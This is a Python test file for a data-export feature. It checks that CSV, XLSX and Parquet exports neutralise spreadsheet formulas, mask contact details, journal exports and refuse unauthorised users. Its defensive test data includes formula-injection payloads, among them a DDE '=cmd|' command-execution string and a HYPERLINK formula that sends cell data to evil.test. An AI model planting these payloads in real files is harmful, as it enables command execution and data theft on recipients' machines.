"""Files that people take away: allowed, journaled, masked, and inert in every program."""

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from duckdb import DuckDBPyConnection
from python_calamine import CalamineWorkbook

from core.journal import records as journal
from core.people.model import NotAllowed, Role
from core.segments import exporting, exports
from core.segments.exporting import Content, Format, tame
from core.segments.exports import TooManyRows, Wanted
from core.segments.model import EVERYBODY, Condition, Rule
from core.segments.resolving import NoSources
from core.store.store import Store, Tx
from core.warehouse.catalogue import load_catalogue
from core.warehouse.snapshot import Snapshot
from core.warehouse.warehouse import Warehouse
from tests.conftest import ADA, ANA, CLEO, MONDAY, person
from tests.core.segments.conftest import HOSTILE
from tests.plan import insert

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
CORPUS = Path(__file__).parents[4] / "shared" / "data" / "hostile_inputs.json"
MO = person("mo", Role.MANAGER)  # may take accounts, and not see names and addresses
TENS = Condition("employees", "equals", 10)

# What a program might run, follow, or rewrite; and what only looks like it.
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1", "\n=1", "  =1", "\u00a0=1"),
    *("＝1", "＋1", "－1", "＠x", "=cmd|'/C calc'!A0", "\u200b=1", "\ufeff=1+1", '"=1+1'),
    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    *("http://evil.test", "mailto:a@b.test", "internal:Sheet!A1", "external:c:\\x.xlsx"),
    *("{=1+1}", "00123", "1e5", "+79161234567", "TRUE", "#REF!", "'=1", ";=1", ",=1", "ё"),
    *("_x0041_", "a\x0bb", "<f>1</f>", "]]>", "x" * 40_000),
]


def corpus() -> list[str]:
    if not CORPUS.exists():
        return []
    items = json.loads(CORPUS.read_text(encoding="utf-8"))["items"]
    return [str(item["payload"]) for item in items if "\0" not in str(item["payload"])]


def take(
    tx: Tx, base: Snapshot, content: Content, kind: Format, rule: Rule = TENS, **more: Any
) -> bytes:
    facts: dict[str, Any] = {"language": "en", "by": ANA, "at": MONDAY}
    parcel = exports.export(
        tx,
        subject="s1",
        rule=rule,
        wanted=Wanted(content, kind),
        snapshot=base,
        catalogue=load_catalogue(),
        sources=NoSources(),
        **facts | more,
    )
    return exports.written(parcel, base, load_catalogue())


def rows_of(written: bytes, kind: Format) -> list[list[Any]]:
    """The rows under the heading, as another program reads them."""
    if kind is Format.CSV:
        return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))[1:]
    if kind is Format.PARQUET:
        return [list(row.values()) for row in pq.read_table(io.BytesIO(written)).to_pylist()]
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(written)).get_sheet_by_index(0)
    return [list(row) for row in sheet.to_python()[1:]]


@pytest.fixture
def strange(tmp_path: Path) -> Snapshot:
    """A base whose names are everything somebody might try, one account for each."""
    names = list(dict.fromkeys([*FORMULAS, *corpus()]))

    def fill(connection: DuckDBPyConnection) -> None:
        accounts = [(f"{number:04}", name) for number, name in enumerate(names)]
        insert(connection, "accounts", ["account_id", "name"], accounts)
        contacts = [(f"c{id_}", id_, name, name, name, name) for id_, name in accounts]
        columns = ["contact_id", "account_id", "full_name", "position", "email", "phone"]
        insert(connection, "contacts", columns, contacts)

    warehouse = Warehouse(tmp_path / "strange")
    warehouse.publish(fill, name="strange", by="ana", at=MONDAY, as_of=MONDAY.date(), note="")
    return warehouse.current()


@pytest.mark.parametrize("content", Content)
def test_in_xlsx_every_text_is_a_cell_of_text_as_it_was(
    store: Store, strange: Snapshot, content: Content
) -> None:
    with store.transaction() as tx:
        written = take(tx, strange, content, Format.XLSX, EVERYBODY)
    names = [row["name"] for row in strange.rows("SELECT name FROM accounts ORDER BY ordinal")]

    sheet = openpyxl.load_workbook(io.BytesIO(written)).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    texts = {"s", "inlineStr"}
    assert {cell.data_type for cell in cells} <= texts
    assert [cell.hyperlink for cell in cells] == [None] * len(names)
    assert [len(str(cell.value)) for cell in cells][:5] == [len(name) for name in names][:5]
    seen = [str(row[1]) for row in rows_of(written, Format.XLSX)]
    assert seen == [name[:32_767] for name in names]
    with zipfile.ZipFile(io.BytesIO(written)) as parts:
        markup = {name: parts.read(name) for name in parts.namelist()}
    assert not [name for name in markup if b"<f>" in markup[name] or b"<f " in markup[name]]
    assert not [name for name in markup if b"<hyperlink" in markup[name]]


@pytest.mark.parametrize("content", Content)
def test_in_csv_nothing_starts_a_formula_and_everything_can_be_read_back(
    store: Store, strange: Snapshot, content: Content
) -> None:
    with store.transaction() as tx:
        written = take(tx, strange, content, Format.CSV, EVERYBODY)
    names = [row["name"] for row in strange.rows("SELECT name FROM accounts ORDER BY ordinal")]

    seen = [row[1] for row in rows_of(written, Format.CSV)]
    blanks = " \u00a0\u200b\ufeff"
    assert not [one for one in seen if one.lstrip(blanks).startswith(FORMULA_STARTS)]
    assert [one.removeprefix("'") for one in seen] == [name.removeprefix("'") for name in names]


@pytest.mark.parametrize("content", Content)
def test_in_parquet_a_text_is_only_a_text(
    store: Store, strange: Snapshot, content: Content
) -> None:
    with store.transaction() as tx:
        written = take(tx, strange, content, Format.PARQUET, EVERYBODY)

    table = pq.read_table(io.BytesIO(written))
    assert table.column("name").to_pylist() == [
        row["name"] for row in strange.rows("SELECT name FROM accounts ORDER BY ordinal")
    ]
    assert table.column_names[:2] == ["account_id", "name"]


@pytest.mark.parametrize("cell", ["=1+1", "+7", "-1", "@x", "\tx", "  =x", "＝1", "\u200b=1"])
def test_a_formula_becomes_a_text(cell: str) -> None:
    assert tame(cell) == "'" + cell
    assert tame("plain") == "plain"


@pytest.mark.parametrize("kind", Format)
def test_an_export_holds_the_members_and_the_journal_knows_who_took_them(
    store: Store, base: Snapshot, kind: Format
) -> None:
    with store.transaction() as tx:
        rows = rows_of(take(tx, base, Content.ACCOUNTS, kind), kind)

    assert [row[:2] for row in rows] == [["a", "Alpha"], ["d", HOSTILE]]
    with store.reading() as tx:
        (entry,) = journal.entries(tx)
    assert (entry.verb, entry.by, entry.subject) == ("segments.export", "ana", "s1")
    assert entry.details == {
        "content": "accounts",
        "format": kind,
        "rows": 2,
        "accounts": 2,
        "masked": False,
        "publication": 1,
        "rule": '{"field":"employees","operator":"equals","value":10}',
        "since": None,
    }


@pytest.mark.parametrize("kind", Format)
def test_contacts_come_with_their_account(store: Store, base: Snapshot, kind: Format) -> None:
    with store.transaction() as tx:
        rows = rows_of(take(tx, base, Content.CONTACTS, kind), kind)

    assert [(row[0], row[4], row[5]) for row in rows if row[5]] == [
        ("a", "CFO", "f@a.example"),
        ("d", HOSTILE, "d@d.example"),
        ("d", "CEO", "e@d.example"),
    ]
    roles = {row[3] for row in rows}
    assert roles == (
        {"finance", "technical", "decision_maker"}
        if kind is Format.PARQUET
        else {"finance", "technical", "decision maker"}
    )


@pytest.mark.parametrize("kind", Format)
def test_whoever_may_not_see_names_and_addresses_gets_them_masked(
    store: Store, strange: Snapshot, base: Snapshot, kind: Format
) -> None:
    with store.transaction() as tx:
        rows = rows_of(take(tx, base, Content.CONTACTS, kind, by=MO), kind)

    emails = {row[5] for row in rows if row[5]}
    assert emails == {"***@***.example"}
    assert not {"f@a.example", "d@d.example", "e@d.example"} & {str(c) for r in rows for c in r}
    with store.reading() as tx:
        (entry,) = journal.entries(tx)
    assert (entry.details["masked"], entry.details["rows"]) == (True, 4)


def test_a_stranger_takes_nothing(store: Store, base: Snapshot) -> None:
    with store.transaction() as tx:
        with pytest.raises(NotAllowed):
            take(tx, base, Content.ACCOUNTS, Format.CSV, by=CLEO)
        with pytest.raises(NotAllowed):  # administers, and takes nobody's names along
            take(tx, base, Content.CONTACTS, Format.CSV, by=ADA)

        assert list(journal.entries(tx)) == []


def test_what_a_sheet_cannot_hold_is_refused_and_not_cut_off(
    store: Store, base: Snapshot, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MOST_XLSX_ROWS", 3)
    with store.transaction() as tx:
        with pytest.raises(TooManyRows) as refused:
            take(tx, base, Content.CONTACTS, Format.XLSX)
        take(tx, base, Content.CONTACTS, Format.CSV)

        assert [entry.details["format"] for entry in journal.entries(tx)] == ["csv"]
    assert "CSV or Parquet" in refused.value.sentence("en")
    assert exporting.MOST_XLSX_ROWS == 2**20 - 1


@pytest.mark.parametrize("kind", Format)
def test_what_came_and_went_between_two_rules_is_marked(
    store: Store, base: Snapshot, kind: Format
) -> None:
    with store.transaction() as tx:
        later = Condition("employees", "at_least", 11)
        rows = rows_of(
            take(tx, base, Content.ACCOUNTS, kind, later, since=TENS, language="ru"), kind
        )

    marks = ("added", "gone") if kind is Format.PARQUET else ("добавлен", "выбыл")
    assert [(row[0], row[1]) for row in rows] == [
        *((marks[0], one) for one in "bfg"),
        *((marks[1], one) for one in "ad"),
    ]
    with store.reading() as tx:
        (entry,) = journal.entries(tx)
    assert (entry.details["rows"], '"equals"' in entry.details["since"]) == (5, True)


def test_an_empty_segment_is_an_empty_file(store: Store, base: Snapshot) -> None:
    nobody = Condition("employees", "more_than", 10**9)
    with store.transaction() as tx:
        for kind in Format:
            for content in Content:
                assert rows_of(take(tx, base, content, kind, nobody), kind) == []


def test_a_table_of_pandas_is_tamed_like_any_other() -> None:
    table = pa.table({"name": pa.array(["=1+1", "Ana"], pa.large_string())})

    text = exporting.as_csv(table, {"name": "Name"}).decode("utf-8-sig")

    assert text.splitlines()[1:] == ['"\'=1+1"', '"Ana"']
